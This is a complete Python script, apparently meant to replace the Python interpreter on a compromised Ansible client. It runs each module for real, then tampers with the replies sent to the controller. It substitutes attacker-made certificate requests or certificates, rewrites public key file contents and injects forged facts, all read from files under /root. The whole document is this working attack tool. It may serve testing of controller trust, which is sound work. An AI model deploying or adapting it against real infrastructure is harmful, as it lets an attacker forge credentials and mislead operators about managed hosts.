#!/usr/bin/python3
# Root on a client controls the Python that runs Ansible's modules there. This one runs each
# module with the real interpreter and tampers with what it hands back, as the attacker's
# files ask: a certificate request made by the attacker (/root/forged-request.pem) or a
# certificate it made itself (/root/forged-certificate.pem) in place of the host's, a public
# key file read back with other content (/root/forged-public-key), and facts of its choosing
# (/root/forged-facts.json) added to every reply.
import base64
import json
import os
import subprocess
import sys


def forged(name):
    path = os.path.join("/root", name)
    if not os.path.exists(path):
        return None
    with open(path, encoding="ascii") as handle:
        return handle.read()


result = subprocess.run(["/usr/bin/python3"] + sys.argv[1:], stdin=sys.stdin, stdout=subprocess.PIPE, check=False)
output = result.stdout.decode("utf-8", "replace")
try:
    reply = json.loads(output)
except ValueError:
    reply = None
if isinstance(reply, dict):
    if reply.get("csr") and forged("forged-request.pem"):
        reply["csr"] = forged("forged-request.pem")
    if reply.get("csr") and forged("forged-certificate.pem"):
        reply["certificate"] = forged("forged-certificate.pem")
    if str(reply.get("source", "")).endswith(".pub") and "content" in reply and forged("forged-public-key"):
        reply["content"] = base64.b64encode(forged("forged-public-key").encode("ascii")).decode("ascii")
    if forged("forged-facts.json"):
        reply.setdefault("ansible_facts", {}).update(json.loads(forged("forged-facts.json")))
    output = json.dumps(reply)
sys.stdout.write(output)
sys.exit(result.returncode)
